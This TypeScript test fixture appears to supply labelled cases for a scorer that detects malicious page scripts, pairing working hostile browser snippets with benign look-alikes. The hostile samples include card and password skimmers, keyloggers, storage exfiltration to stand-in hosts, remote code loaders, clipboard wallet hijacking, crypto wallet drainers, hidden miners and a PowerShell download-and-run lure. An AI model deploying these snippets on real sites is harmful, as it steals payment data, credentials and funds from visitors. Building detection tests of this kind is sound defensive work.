// Scripts of kinds that were missed or condemned in probes by others, with their expected verdicts. They are inert: none of
// them is ever run, and the hosts do not exist.
import type { HonestCase } from './honest-scripts.cases.ts'
import type { ScriptCase } from './score-script.cases.ts'

export const PROBED_CASES: readonly ScriptCase[] = [
  {
    name: 'payment fields to a peer',
    source: `const p=new RTCPeerConnection();const c=p.createDataChannel('d');p.createOffer().then(o=>p.setLocalDescription(o)).then(()=>p.setRemoteDescription({type:'answer',sdp:S}));document.addEventListener('change',e=>{if(/cvv|cc_number/.test(e.target.name))c.send(e.target.name+'='+e.target.value)})`,
    head: 'magecart',
  },
  {
    name: 'what is typed in the name of a host',
    source: `document.addEventListener('change',e=>{const l=document.createElement('link');l.rel='preconnect';l.href='https://'+btoa(e.target.value).replace(/=/g,'')+'.n.example.org';document.head.append(l)})`,
    head: 'magecart',
  },
  {
    name: 'copies of the requests of a page',
    source: `const s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){if(/"payment/.test(b))navigator.sendBeacon('https://rum.example.org/b',btoa(b));return s.call(this,b)}`,
    head: 'magecart',
  },
  {
    name: 'code for a checkout in a picture of the site',
    source: `if(document.querySelector('#checkout'))fetch('/media/logo.svg').then(r=>r.text()).then(t=>{const m=/<desc>(.+)<\\/desc>/.exec(t);const s=document.createElement('script');s.text=atob(m[1]);document.body.append(s)})`,
    head: 'malware',
  },
  {
    name: 'code for a checkout that is decrypted from an attribute, put in as a text node',
    source: `if(/checkout/.test(location.pathname)){let o='';for(const n of document.querySelector('#m').dataset.v.split(','))o+=String.fromCharCode(n^77);const s=document.createElement('script');s.append(document.createTextNode(o));document.head.append(s)}`,
    head: 'malware',
  },
  {
    name: 'a page from another host, once for some browsers',
    source: `if(/Windows/.test(navigator.userAgent)&&!localStorage.seen){fetch('https://cdn-center.example.org/p?h='+location.host).then(r=>r.text()).then(t=>{localStorage.seen=1;document.open();document.write(t);document.close()})}`,
    head: 'malware',
  },
  {
    name: 'a card number in an address',
    source: `document.querySelector('#cc_cvv').addEventListener('change',function(){fetch('https://lookup.example.org/q?c='+document.querySelector('#cc_number').value+'&v='+this.value)})`,
    head: 'magecart',
  },
  {
    name: 'all of the storage, spread',
    source: `fetch('https://sync.example.org/s',{method:'POST',body:JSON.stringify({c:document.cookie,l:{...localStorage}})})`,
    head: 'malware',
  },
  {
    name: 'code that a socket sends in parts',
    source: `const w=new WebSocket('wss://cdn-chat.example.org/s');const parts=[];w.onmessage=e=>{if(e.data==='.'){new Function(parts.join(''))();parts.length=0}else parts.push(e.data)}`,
    head: 'malware',
  },
  {
    name: 'a wallet address for each kind that is copied',
    source: `const mine=['0x1234567890AbcdEF1234567890aBcdef12345678','bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'];const kinds=[/^0x[0-9a-f]{40}$/i,/^bc1[0-9a-z]{25,60}$/];setInterval(async()=>{const t=await navigator.clipboard.readText();const i=kinds.findIndex(k=>k.test(t));if(i>=0)navigator.clipboard.writeText(mine[i])},900)`,
    head: 'malware',
  },
  {
    name: 'fields named as parts of a card only when sent',
    source: `$('#place_order').on('click',function(e){e.preventDefault();$.post('https://api.pay-check.example.org/v1',{'card[number]':$('#w1').val(),'card[cvc]':$('#w2').val(),from:location.href}).always(function(){$('#w1').hide()})})`,
    head: 'magecart',
  },
  {
    name: 'a password beside the form that is sent as usual',
    source: `document.addEventListener('submit',function(e){var p=e.target.querySelector('#password');if(p)fetch('https://sync.example.org/i',{method:'POST',body:p.value})})`,
    head: 'malware',
  },
  {
    name: 'a joined address for phones',
    source: `var seen=document.cookie.match(/_h=(\\d+)/);document.cookie='_h=1;max-age=9000';if(!seen&&/Android/.test(navigator.userAgent)&&document.referrer&&document.referrer.indexOf(location.host)<0){var u=['ht','tps://','go.lucky-wi','nner.test/?s=',location.host].join('');document.addEventListener('click',function(){location.assign(u)})}`,
    head: 'malware',
  },
  {
    name: 'keys until the end of a line',
    source: `let b='';addEventListener('keydown',e=>{if(e.key=='Enter'){fetch('https://l.example.org/k',{method:'POST',body:b});b=''}else b+=e.key})`,
    head: 'malware',
  },
  {
    name: 'unlimited approvals of what a server lists, without a library',
    source: `async function go(){const [a]=await ethereum.request({method:'eth_requestAccounts'});const r=await fetch('https://api.claim-rewards.example.net/tokens?a='+a).then(r=>r.json());for(const t of r){const data='0x095ea7b3'+r.spender.slice(2).padStart(64,'0')+'f'.repeat(64);await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:t.address,data}]})}fetch('https://api.claim-rewards.example.net/done',{method:'POST',body:a})}document.getElementById('connect').addEventListener('click',go)`,
    head: 'malware',
  },
  {
    name: 'a signed permit for everything',
    source: `document.querySelector('.claim').addEventListener('click',async()=>{const accounts=await window.ethereum.request({method:'eth_requestAccounts'});const owner=accounts[0];const msg=JSON.stringify({domain:{name:'USD Coin',version:'2',chainId:1,verifyingContract:'0xa0b86991c6218b36c1d19d4a2e9eb0ce3606eb48'},primaryType:'Permit',types:{Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},message:{owner,spender:'0x1111111111111111111111111111111111111111',value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:0,deadline:9999999999}});const sig=await window.ethereum.request({method:'eth_signTypedData_v4',params:[owner,msg]});await fetch('https://relay.claim.example.net/p',{method:'POST',body:JSON.stringify({owner,sig})})});`,
    head: 'malware',
  },
  {
    name: 'the balance of an account in another chain',
    source: `(async()=>{const p=window.solana;await p.connect();const c=new solanaWeb3.Connection('https://rpc.example.net');const bal=await c.getBalance(p.publicKey);const tx=new solanaWeb3.Transaction().add(solanaWeb3.SystemProgram.transfer({fromPubkey:p.publicKey,toPubkey:new solanaWeb3.PublicKey('9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin'),lamports:bal-5000}));const {signature}=await p.signAndSendTransaction(tx);navigator.sendBeacon('https://stat.example.net/x',signature)})()`,
    head: 'malware',
  },
  {
    name: 'a renamed miner with a wallet and a load',
    source: `const s=document.createElement('script');s.src='https://cdn.static-perf.example.net/lib/perf.min.js';s.onload=()=>{const m=new window.PerfRunner({pool:'wss://p.static-perf.example.net/ws',wallet:'48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD',threads:navigator.hardwareConcurrency-1,throttle:0.4,algo:'rx/0'});m.start();document.addEventListener('visibilitychange',()=>document.hidden?m.resume():m.pause())};document.head.append(s);`,
    head: 'cryptomining',
  },
  {
    name: 'work of a socket for all processors',
    source: `(function(){var n=Math.max(1,(navigator.hardwareConcurrency||4)-1);var ws=new WebSocket('wss://pool-relay.example.net:8443');var ws2=[];var src="onmessage=function(e){var j=e.data;for(var n=j.start;n<j.end;n++){var h=hash(j.blob,n);if(h<j.target)postMessage({nonce:n,result:h,id:j.id})}}";for(var i=0;i<n;i++){var w=new Worker(URL.createObjectURL(new Blob([src])));w.onmessage=function(e){ws.send(JSON.stringify({type:'submit',params:e.data}))};ws2.push(w)}ws.onopen=function(){ws.send(JSON.stringify({type:'auth',params:{site_key:'k',user:'u'}}))};ws.onmessage=function(m){var d=JSON.parse(m.data);if(d.type==='job')ws2.forEach(function(w,i){w.postMessage({blob:d.params.blob,target:d.params.target,id:d.params.job_id,start:i*1e6,end:(i+1)*1e6})})}})();`,
    head: 'cryptomining',
  },
  {
    name: 'the page in a new window, another site in this one',
    source: `document.addEventListener('click',function f(){if(sessionStorage.p)return;sessionStorage.p=1;var w=window.open(location.href);location.href='https://pop.ads-serve.example.net/c?z=55'},{once:true});`,
    head: 'malware',
  },
  {
    name: 'every field at a click on the button of a checkout',
    source: `document.addEventListener('click',function(e){if(!e.target.closest('#place_order, .checkout-button'))return;var o={};document.querySelectorAll('input, select').forEach(function(i){if(i.name)o[i.name]=i.value});navigator.sendBeacon('https://static.tagcdn.example.net/t',JSON.stringify(o))},true);`,
    head: 'magecart',
  },
  {
    name: 'every field once a card number is complete',
    source: `setInterval(()=>{const n=document.querySelector('input[autocomplete="cc-number"]');if(!n||n.value.length<15||sessionStorage.sent===n.value)return;sessionStorage.sent=n.value;const d={};for(const e of document.querySelectorAll('input[autocomplete]'))d[e.autocomplete]=e.value;const x=new XMLHttpRequest();x.open('POST','https://a11y-helper.example.net/v');x.send(JSON.stringify(d))},1000);`,
    head: 'magecart',
  },
  {
    name: 'a card sent by an object that listens',
    source: `document.querySelector('#cc_number').addEventListener('change',{handleEvent(e){new Image().src='https://img.example.org/p?d='+e.target.value}})`,
    head: 'magecart',
  },
  {
    name: 'a card sent by an object that learns to listen later',
    source: `const o={};document.querySelector('#cc_number').addEventListener('change',o);o.handleEvent=function(){new Image().src='https://img.example.org/p?d='+document.querySelector('#cc_number').value}`,
    head: 'magecart',
  },
  {
    name: 'a card sent at the end of a deep recursion',
    source: `function go(){new Image().src='https://img.example.org/p?d='+document.querySelector('#cc_number').value}function f(n){n?f(n-1):go()}f(41)`,
    head: 'magecart',
  },
  {
    name: 'a card sent by what replaces a method of the shop',
    source: `payment.save=function(){new Image().src='https://img.example.org/p?d='+document.querySelector('#cc_number').value;return true}`,
    head: 'magecart',
  },
  {
    name: 'a card sent by the setter of a field',
    source: `const i=document.querySelector('#cc_number');Object.defineProperty(i,'value',{set(v){new Image().src='https://img.example.org/p?d='+v}})`,
    head: 'magecart',
  },
  {
    name: 'a form with a card copied, its event stopped from rising only',
    source: `document.querySelector('#pay').addEventListener('submit',e=>{e.stopPropagation();fetch('https://api.pay-help.example.org/t',{method:'POST',body:btoa(JSON.stringify({n:document.querySelector('#cc_number').value}))}).then(()=>{})})`,
    head: 'magecart',
  },
  {
    name: 'a form with a card copied before it is sent all the same',
    source: `const form=document.querySelector('#pay');form.addEventListener('submit',e=>{e.preventDefault();fetch('https://api.pay-help.example.org/t',{method:'POST',body:btoa(JSON.stringify({n:document.querySelector('#cc_number').value}))}).then(()=>form.submit())})`,
    head: 'magecart',
  },
  {
    name: 'a password copied, with a handler of something else that returns false',
    source: `document.querySelector('#help').onclick=function(){return false};document.querySelector('#login').onsubmit=function(){fetch('https://api.log-help.example.org/t',{method:'POST',body:document.querySelector('#password').value}).then(()=>{})}`,
    head: 'malware',
  },
  {
    name: 'a card for a concealed host, with ordinary names in a list',
    source: `const w=['addEventListener','querySelector','getElementById','createElement'];w[0];w[1];w[2];w[3];document.querySelector('#cc_number').addEventListener('change',e=>{fetch('https://'+['pay','chec','kers'].join('')+'.example/t',{method:'POST',body:e.target.value})})`,
    head: 'magecart',
  },
  {
    name: 'a command for the clipboard, with instructions in another language',
    source: `document.querySelector('#weiter').onclick=function(){navigator.clipboard.writeText('powershell -w hidden -c "iwr https://cdn.pruefung.example.net/install.ps1 | iex"');document.querySelector('#hinweis').textContent='Windows+R, dann Strg+V und Eingabe'}`,
    head: 'malware',
  },
]

export const PROBED_HONEST_CASES: readonly HonestCase[] = [
  {
    name: "a payment provider's library for old browsers, which the page calls",
    source: `(function(w){function val(f,n){return f.querySelector('[data-vault="'+n+'"]').value}w.Vault={createToken:function(form,done){var n='cb'+Math.random().toString(36).slice(2),s=document.createElement('script');w[n]=done;s.src='https://api.vault.example.org/v1/tokens?number='+encodeURIComponent(val(form,'number'))+'&cvc='+val(form,'cvc')+'&exp='+val(form,'card_exp')+'&callback='+n;document.head.appendChild(s)}}})(window);`,
    sign: 'card-leaves',
  },
  {
    name: 'failed requests reported with what was sent',
    source: `const f=window.fetch;window.fetch=async(u,o)=>{const r=await f(u,o);if(!r.ok)f('https://errors.example.org/i',{method:'POST',body:JSON.stringify({u,status:r.status,sent:o&&o.body})});return r};`,
    sign: 'requests-copied',
  },
  {
    name: 'code of the page as a text node',
    source: `const c=document.querySelector('#widget-code');const s=document.createElement('script');s.appendChild(document.createTextNode(c.textContent));document.head.appendChild(s)`,
  },
  {
    name: 'a picture of a host that is typed',
    source: `document.querySelector('#host').addEventListener('change',e=>{document.querySelector('#logo').src='https://'+e.target.value+'/favicon.ico'})`,
    sign: 'fields-in-host-name',
  },
  {
    name: 'the storage as a file for the visitor',
    source: `document.querySelector('#export').onclick=()=>{const a=document.createElement('a');a.href=URL.createObjectURL(new Blob([JSON.stringify({...localStorage})]));a.download='settings.json';a.click()}`,
  },
  {
    name: 'rows of a socket',
    source: `const es=new WebSocket('wss://live.scores.example.org/');const rows=[];es.onmessage=e=>{rows.push(JSON.parse(e.data));if(rows.length>20)rows.shift();document.querySelector('#t').innerHTML=rows.map(r=>'<li>'+r.name+'</li>').join('')}`,
  },
  {
    name: 'keys of a search without a field',
    source: `let q='';document.addEventListener('keydown',e=>{if(e.key==='Escape')q='';else if(e.key.length===1)q+=e.key;document.querySelectorAll('li').forEach(l=>{l.hidden=!l.textContent.includes(q)})})`,
  },
  {
    name: 'a donation of a typed amount',
    source: `document.querySelector('#donate').onclick=async()=>{const [from]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from,to:'0x1234567890AbcdEF1234567890aBcdef12345678',value:'0x'+BigInt(document.querySelector('#sum').value).toString(16)}]})}`,
  },
  {
    name: 'a permit of a typed amount',
    source: `export async function permit(owner,value,deadline){const sig=await signer.signTypedData(domain,{Permit:[{name:'owner',type:'address'},{name:'value',type:'uint256'}]},{owner,spender,value:parseUnits(document.querySelector('#amount').value,6),deadline});return fetch('https://relay.app.example.org/permit',{method:'POST',body:JSON.stringify({owner,sig})})}`,
  },
  {
    name: 'proof of work against robots',
    source: `const w=new Worker(URL.createObjectURL(new Blob(['onmessage=async e=>{for(let n=0;;n++){const h=await crypto.subtle.digest("SHA-256",new TextEncoder().encode(e.data.salt+n));if(new DataView(h).getUint32(0)<e.data.difficulty){postMessage(n);break}}}'])));fetch('https://captcha.example.org/c').then(r=>r.json()).then(c=>{w.onmessage=e=>{document.querySelector('[name=pow]').value=e.data};w.postMessage(c)})`,
  },
  {
    name: 'the page in a window of its own',
    source: `document.querySelector('#popout').onclick=()=>window.open(location.href,'_blank','width=400');document.querySelector('#help').onclick=()=>{location.href='/help'}`,
  },
  {
    name: 'commands of an installation guide',
    source: `const install={win:'iwr -useb https://get.toolchain.example.net/install.ps1 | iex',mac:'brew install toolchain',linux:'curl -sSf https://sh.toolchain.example.net | sh'};const tab=t=>{document.querySelector('#cmd').textContent=install[t]};document.querySelectorAll('[data-os]').forEach(b=>b.addEventListener('click',()=>tab(b.dataset.os)));document.querySelector('#copy').addEventListener('click',async()=>{await navigator.clipboard.writeText(document.querySelector('#cmd').textContent);document.querySelector('#copy').textContent='Copied! Paste it into a terminal.'});`,
  },
  {
    name: 'a payment form with a token',
    source: `document.querySelector('#payment-form').addEventListener('submit',async e=>{e.preventDefault();const f=e.target;const r=await fetch('https://api.gatewaypay.example.net/tokens',{method:'POST',headers:{'X-Key':'pk_live_1'},body:JSON.stringify({card:{number:f.number.value,cvc:f.cvc.value,exp:f.exp.value}})});const t=await r.json();if(t.error){f.querySelector('.error').textContent=t.error.message;return}f.token.value=t.id;f.number.removeAttribute('name');f.submit()});`,
  },
  {
    name: 'a password compared with known leaks',
    source: `document.querySelector('#new-password').addEventListener('change',async e=>{const h=await crypto.subtle.digest('SHA-1',new TextEncoder().encode(e.target.value));const x=[...new Uint8Array(h)].map(b=>b.toString(16).padStart(2,'0')).join('').toUpperCase();const r=await fetch('https://api.pwnedpasswords.com/range/'+x.slice(0,5));const t=await r.text();document.querySelector('#warn').hidden=!t.includes(x.slice(5))});`,
  },
  {
    name: 'durations of requests',
    source: `(function(){var q=[];var of=window.fetch;window.fetch=function(i,o){var t=performance.now();return of.apply(this,arguments).then(function(r){q.push({u:typeof i==='string'?i:i.url,s:r.status,d:performance.now()-t});return r})};var os=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){var x=this,t=performance.now();x.addEventListener('loadend',function(){q.push({u:x.responseURL,s:x.status,d:performance.now()-t,n:b?b.length:0})});return os.apply(this,arguments)};setInterval(function(){if(q.length)navigator.sendBeacon('https://rum.monitor.example.net/v1',JSON.stringify(q.splice(0)))},1e4)})();`,
  },
  {
    name: 'drafts of a form',
    source: `(function(){var key='draft:'+location.pathname;var form=document.querySelector('form[data-autosave]');if(!form)return;function data(){var o={};form.querySelectorAll('input,textarea,select').forEach(function(e){if(e.name&&e.type!=='password')o[e.name]=e.value});return o}form.addEventListener('input',function(){localStorage.setItem(key,JSON.stringify(data()))});setInterval(function(){fetch('/drafts',{method:'POST',body:JSON.stringify(data())})},15000);window.addEventListener('pagehide',function(){navigator.sendBeacon('/drafts',JSON.stringify(data()))});var s=localStorage.getItem(key);if(s){s=JSON.parse(s);for(var n in s)if(form.elements[n])form.elements[n].value=s[n]}})();`,
  },
  {
    name: 'a log-in at another host',
    source: `const form=document.getElementById('login');form.onsubmit=async function(e){e.preventDefault();const email=document.getElementById('email').value,password=document.getElementById('password').value;const r=await fetch('https://auth.myapp.example.net/login',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({email,password})});if(r.ok){const {token}=await r.json();localStorage.setItem('token',token);location.href='/app'}else document.querySelector('.err').hidden=false}`,
  },
  {
    name: 'an exchange of tokens',
    source: `import {BrowserProvider,Contract,MaxUint256} from 'ethers';export async function swap(amount){const s=await new BrowserProvider(window.ethereum).getSigner();const t=new Contract(TOKEN,erc20,s);if(await t.allowance(await s.getAddress(),ROUTER)<amount)await(await t.approve(ROUTER,MaxUint256)).wait();const r=new Contract(ROUTER,abi,s);return r.swapExactTokensForTokens(amount,0,[TOKEN,WETH],await s.getAddress(),Date.now()+6e5)}const TOKEN='0xa0b86991c6218b36c1d19d4a2e9eb0ce3606eb48',WETH='0xc02aaa39b223fe8d0a0e5c4f27ead9083c756cc2',ROUTER='0x7a250d5630b4cf539739df2c5dacb4c659f2488d';document.querySelector('#swap').onclick=()=>swap(BigInt(document.querySelector('#amount').value));`,
  },
  {
    name: 'the payment page of a vendor, for its own server',
    source: `(function(){var base='https://checkout.payvendor.example.net';var f=document.getElementById('pay');f.addEventListener('submit',function(e){e.preventDefault();var d={pan:f.pan.value,cvv:f.cvv.value,exp:f.expiry.value,session:f.dataset.session,ua:navigator.userAgent,tz:new Date().getTimezoneOffset(),screen:screen.width+'x'+screen.height};var x=new XMLHttpRequest();x.open('POST',base+'/api/payments');x.onload=function(){var r=JSON.parse(x.responseText);if(r.redirect)location.href=r.redirect;else document.getElementById('err').textContent=r.message};x.send(JSON.stringify(d))});setInterval(function(){fetch(base+'/api/session/'+f.dataset.session+'/ping')},30000)})();`,
    sign: 'fields-harvested',
  },
  {
    name: 'a card that is encrypted for a vendor',
    source: `class CardForm{constructor(el,o){this.el=el;this.o=o;el.addEventListener('submit',e=>this.submit(e))}async submit(e){e.preventDefault();const v=n=>this.el.querySelector(\`[name="\${n}"]\`).value;const key=await this.key();const enc=await crypto.subtle.encrypt({name:'RSA-OAEP'},key,new TextEncoder().encode(JSON.stringify({number:v('card_number'),cvc:v('cvc')})));const r=await fetch('https://vault.cardco.example.net/tokens',{method:'POST',body:btoa(String.fromCharCode(...new Uint8Array(enc))),headers:{'X-Merchant':this.o.merchant,'X-Url':location.origin}});const {token}=await r.json();this.o.onToken(token)}async key(){return crypto.subtle.importKey('spki',await(await fetch('https://vault.cardco.example.net/key')).arrayBuffer(),{name:'RSA-OAEP',hash:'SHA-256'},false,['encrypt'])}}window.CardForm=CardForm;`,
    sign: 'fields-harvested',
  },
  {
    name: 'drafts of a form, encoded and kept',
    source: `class AutoSave{constructor(form,{url=form.action,every=5000,key=form.id}={}){this.form=form;this.url=url;this.key='as_'+key;this.restore();form.addEventListener('input',()=>this.store());this.t=setInterval(()=>this.push(),every);addEventListener('beforeunload',()=>navigator.sendBeacon(this.url,this.body()))}get fields(){return[...this.form.querySelectorAll('input, select, textarea')].filter(e=>e.name&&!['password','file'].includes(e.type))}body(){return JSON.stringify(Object.fromEntries(this.fields.map(e=>[e.name,e.value])))}store(){localStorage.setItem(this.key,btoa(unescape(encodeURIComponent(this.body()))))}restore(){const s=localStorage.getItem(this.key);if(s){const d=JSON.parse(decodeURIComponent(escape(atob(s))));for(const e of this.fields)if(d[e.name])e.value=d[e.name]}}push(){fetch(this.url,{method:'PUT',keepalive:true,body:this.body()})}}document.querySelectorAll('form.autosave').forEach(f=>new AutoSave(f));`,
  },
  {
    name: 'a window of its own, and a log-in at another host',
    source: `document.querySelector('#popout').onclick=()=>window.open(location.href,'_blank','width=400');document.querySelector('#login').onclick=()=>{location.href='https://login.accounts.example.net/'}`,
    sign: 'page-left-behind',
  },
  {
    name: 'a document that is written together, without payment fields',
    source: `const p=new RTCPeerConnection();const c=p.createDataChannel('doc');document.addEventListener('input',e=>{if(/cvv|cc_number/.test(e.target.name))return;c.send(e.target.value)})`,
    sign: 'fields-by-peer',
  },
  {
    name: 'a namespace of a library, which the page calls',
    source: `window.Vault=window.Vault||{};Vault.check=function(f,done){var s=document.createElement('script');window.vaultDone=done;s.src='https://api.vault.example.org/v1/tokens?number='+f.querySelector('[data-vault="card_number"]').value+'&callback=vaultDone';document.head.appendChild(s)}`,
    sign: 'card-leaves',
  },
  {
    name: 'a form for letters that is sent as a whole, without an answer',
    source: `var form=document.querySelector('form.letter');form.addEventListener('submit',function(){navigator.sendBeacon('https://letters.example.net/subscribe',new FormData(form))})`,
  },
  {
    name: 'help that names the dialog “Run” beside a button that copies',
    source: `document.querySelector('#copy').onclick=function(){navigator.clipboard.writeText(document.querySelector('#command').textContent);document.querySelector('#help').textContent='To verify the installation, press Win+R, then Ctrl+V, then Enter.'}`,
  },
  {
    name: 'a site for phones, and visitors from search engines',
    source: `var found=/google|bing/.test(document.referrer);if(!found&&/Android|iPhone/.test(navigator.userAgent))location.replace('https://m.shop.example.net'+location.pathname);if(found)document.querySelector('#welcome').hidden=false`,
  },
  {
    name: 'a price that is paid from a wallet whose balance is shown',
    source: `const balance=await provider.getBalance(account);document.querySelector('#balance').textContent=balance;const value=PRICE;document.querySelector('#pay').onclick=()=>ethereum.request({method:'eth_sendTransaction',params:[{from:account,to:'0x8f3Cf7ad23Cd3CaDbD9735AFf958023239c6A063',value}]})`,
  },
  {
    name: 'a balance in a list, and a price that is paid',
    source: `const balance=await provider.getBalance(account);render([{label:'Balance',value:balance}]);const value=await provider.getBalance(shop);show('shop',value,4);donate.onclick=()=>signer.sendTransaction({to:'0x8f3Cf7ad23Cd3CaDbD9735AFf958023239c6A063',value:PRICE})`,
  },
  {
    name: 'a price that is paid if the balance is enough, with shortened names',
    source: `const e=await price(),t=await n.getBalance(r);if(t>=e)s.sendTransaction({to:"0x8f3Cf7ad23Cd3CaDbD9735AFf958023239c6A063",value:e});async function u(){const e=await n.getBalance(r);return e}`,
  },
  {
    name: 'a cart that takes forms as a whole, and an address for letters',
    source: `fetch('/cart/add.js',{method:'POST',body:new FormData(f)});navigator.sendBeacon('https://mail.example.net/identify',JSON.stringify({email:document.querySelector('#email').value}))`,
    sign: 'fields-harvested',
  },
  {
    name: 'a gate for ages that leaves crawlers alone',
    source: `if(!/googlebot|bingbot|yandex|baidu/i.test(navigator.userAgent)&&document.referrer.indexOf('gate.example.net')<0)location.replace('https://gate.example.net/?id=7')`,
    sign: 'sells-visitors',
  },
  {
    name: 'an app for phones, and its store',
    source: `if(/Android|iPhone/.test(navigator.userAgent)&&!document.referrer.includes(location.host))location.href='https://get.brand.example.net/';document.querySelector('#store').href='https://play.google.com/store/apps/details'`,
    sign: 'sells-visitors',
  },
  {
    name: 'help for an installation that names the dialog “Run”',
    source: `document.querySelector('pre').onclick=function(){navigator.clipboard.writeText(this.textContent)};document.querySelector('#help').innerHTML='To verify your installation, press Win+R, type cmd and press Enter.'`,
  },
  {
    name: 'help for a program that is pasted into the dialog “Run”',
    source: `document.querySelector('#copy').onclick=function(){navigator.clipboard.writeText(window.path)};document.querySelector('#help').textContent='To verify: press Win+R, then Ctrl+V, then Enter, and look at the version of the driver.'`,
  },
  {
    name: 'a shop for phones, but not for visitors from search engines',
    source: `if(!/google|bing/.test(document.referrer)&&/Android|iPhone/.test(navigator.userAgent))location.replace('https://pocket.example.net/shop?s=1')`,
  },
]
